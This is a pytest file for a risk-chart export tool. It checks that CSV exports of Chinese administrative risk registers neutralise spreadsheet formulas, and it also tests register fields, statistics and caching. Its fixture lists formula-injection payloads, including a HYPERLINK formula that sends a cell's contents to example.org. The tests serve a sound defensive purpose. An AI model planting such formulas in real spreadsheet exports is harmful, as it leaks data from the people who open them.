"""The spreadsheet export never turns chart text into a live formula."""

import csv
import io
import json

import pytest
from click.testing import CliRunner
from conftest import lint_files, write_files

from riskchart.cli import main
from riskchart.publish import tables

# Text a clerk may paste that a spreadsheet would run: a formula, a sum, a
# negative calculation, an at-function, and a hyperlink that leaks data.
FORMULAS = ("=1+1", "+SUM(1,2)", "-2+3", "@SUM(1,2)", '=HYPERLINK("http://example.org/?"&A1,"点此")')
CHART = (
    'id: 1\ncategory: 行政裁决\ntitle: "=1+1"\nsteps:\n'
    '  - name: "=A1"\n    level: 中\n    risks:\n'
    + "".join(f"      - '{text}'\n" for text in FORMULAS[1:])
    + '    measures:\n      - "-1 天内办结。"\n    owner: "@受理人"\n'
)


@pytest.mark.parametrize("text, shown", [
    ("=1+1", "'=1+1"), ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("故意刁难申请人。", "故意刁难申请人。"), ("1+1", "1+1"),
    ("", ""), ("a=b", "a=b"),
])
def test_spreadsheet_cell(text, shown):
    assert tables.spreadsheet_cell(text) == shown


def register_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_register_csv_has_no_formula_cell(tmp_path):
    charts = list(lint_files(tmp_path, {"01-a.yaml": CHART}).charts)
    rows = register_rows(tables.register_csv(charts))
    assert [row["风险点"] for row in rows] == ["'" + text for text in FORMULAS[1:]]
    assert {(row["职权名称"], row["环节"], row["责任人"]) for row in rows} == {("'=1+1", "'=A1", "'@受理人")}
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(tables.FORMULA_STARTS)]
    # the text itself is untouched: the chart, and every export but the spreadsheet
    assert charts[0].title == "=1+1" and charts[0].steps[0].risks == FORMULAS[1:]
    assert [row["风险点"] for row in json.loads(tables.register_json(charts))] == list(FORMULAS[1:])


def test_export_csv_has_no_formula_cell(tmp_path):
    folder = tmp_path / "charts"
    folder.mkdir()
    (folder / "01-a.yaml").write_text(CHART, encoding="utf-8")
    result = CliRunner().invoke(main, ["export", "--format", "csv", str(folder)])
    assert result.exit_code == 0, result.output
    rows = register_rows(result.stdout_bytes)
    assert [row["风险点"] for row in rows] == ["'" + text for text in FORMULAS[1:]]
    assert rows[0]["职权名称"] == "'=1+1"


def test_register_rows_carry_code_basis_and_time_limits(tmp_path):
    text = ("id: 7\ncategory: 行政许可\ncode: 140403-XK-0007\ntitle: 食品经营许可\n"
            "basis: [《食品安全法》第三十五条, 《行政许可法》第三十二条]\n"
            "time_limit: {statutory: 二十个工作日}\n"
            "steps:\n  - {name: 受理, time_limit: 当场, level: 中, risks: [甲。], measures: [乙。], owner: 人}\n"
            "  - {name: 决定, level: 高, risks: [丙。], measures: [丁。], owner: 人}\n")
    charts = list(lint_files(tmp_path, {"07-a.yaml": text}).charts)
    (first, second) = tables.register(charts)
    assert (first.职权编码, first.法定时限, first.承诺时限, first.环节时限) == ("140403-XK-0007", "二十个工作日", "", "当场")
    assert first.法律依据 == "1. 《食品安全法》第三十五条\n2. 《行政许可法》第三十二条"
    assert second.环节时限 == "" and second.法律依据 == first.法律依据
    assert list(register_rows(tables.register_csv(charts))[0])[-6:] == ["职权编码", "法律依据", "法定时限", "承诺时限",
                                                                          "环节时限", "风险类型"]


def test_register_rows_carry_risk_types_and_inherited_owners(tmp_path):
    text = ("id: 1\ntitle: 纳税信用复评\nowner: [主管税务机关, 纳税服务股]\nrisk_type: 业务流程\n"
            "steps:\n  - {name: 受理, risks: [甲。], measures: [乙。]}\n"
            "  - {name: 复核, level: 高, risk_type: 岗位职责, risks: [丙。], measures: [丁。], owner: 复核人}\n")
    charts = list(lint_files(tmp_path, {"01-a.yaml": text}).charts)
    (first, second) = tables.register(charts)
    assert (first.类别, first.风险等级, first.责任人, first.风险类型) == ("未分类", "", "主管税务机关、纳税服务股", "业务流程")
    assert (second.风险等级, second.责任人, second.风险类型) == ("高", "复核人", "岗位职责")
    counts = tables.statistics(charts).by_category["未分类"]
    assert counts.risk_total == 2 and counts.risks["未评定"] == 1 and counts.risks["高"] == 1


def test_statistics_count_codes_and_exits(tmp_path):
    text = ("id: {n}\ncategory: 行政许可\n{code}title: 图{n}\n"
            "steps:\n  - name: 受理\n    exits:\n      - {{when: 甲, to: 乙}}\n      - {{when: 丙, to: 丁}}\n")
    charts = list(lint_files(tmp_path, {"01-a.yaml": text.format(n=1, code="code: X-1\n"),
                                        "02-b.yaml": text.format(n=2, code="")}).charts)
    numbers = tables.statistics(charts).as_json()["total"]
    assert (numbers["coded"], numbers["exits"]) == (1, 4)
    assert tables.statistics_text(tables.statistics(charts)).splitlines()[0].split()[-2:] == ["有编码", "分支"]


def test_stats_counts_a_projects_own_level_scale(tmp_path):
    """`levels = ["一级", …, "四级"]`: stats has those columns (and 未评定), not 高/中/低."""
    steps = "".join(f"  - {{name: 环节{n}, level: {n}级, risks: [甲{n}。], measures: [乙。], owner: 丙}}\n"
                    for n in "一二三四")
    (tmp_path / "riskchart.toml").write_text('levels = ["一级", "二级", "三级", "四级"]\n', encoding="utf-8")
    write_files(tmp_path / "charts", {"01-a.yaml": "id: 1\ncategory: 行政裁决\ntitle: 甲\nsteps:\n" + steps
                                      + "  - {name: 归档, risks: [丁。, 戊。], measures: [己。], owner: 丙}\n"})
    done = CliRunner().invoke(main, ["stats", str(tmp_path / "charts")])
    assert done.exit_code == 0, done.output
    header, _, _category, _, total = done.output.splitlines()
    assert header.split() == ["类别", "图", "环节", "风险点", "一级", "二级", "三级", "四级", "未评定", "有编码", "分支"]
    assert total.split() == ["合计", "1", "5", "6", "1", "1", "1", "1", "2", "0", "0"]
    numbers = json.loads(CliRunner().invoke(main, ["stats", str(tmp_path / "charts"), "--format", "json"]).output)
    assert numbers["total"]["risks"] == {"一级": 1, "二级": 1, "三级": 1, "四级": 1, "未评定": 2}


def test_a_changed_chart_gets_new_rows_and_the_others_keep_theirs(tmp_path):
    """Rows are remembered per chart (serve rebuilds the register on every
    save): a chart that changed, even one field deep, is never served stale."""
    from dataclasses import replace

    second = CHART.replace("id: 1", "id: 2").replace('title: "=1+1"', "title: 第二张")
    charts = list(lint_files(tmp_path, {"01-a.yaml": CHART, "02-b.yaml": second}).charts)
    before = tables.register_csv(charts)
    step = charts[1].steps[0]
    edited = [charts[0], replace(charts[1], steps=(replace(step, measures=("改过的措施。",)),))]
    after = tables.register_csv(edited)
    assert tables.register_csv(charts) == before
    tables.chart_rows.cache_clear()
    tables._chart_csv.cache_clear()
    assert after == tables.register_csv(edited)
    assert "改过的措施" in after.decode("utf-8") and "改过的措施" not in before.decode("utf-8")
    assert [r["职权名称"] for r in register_rows(after)] == [r["职权名称"] for r in register_rows(before)]
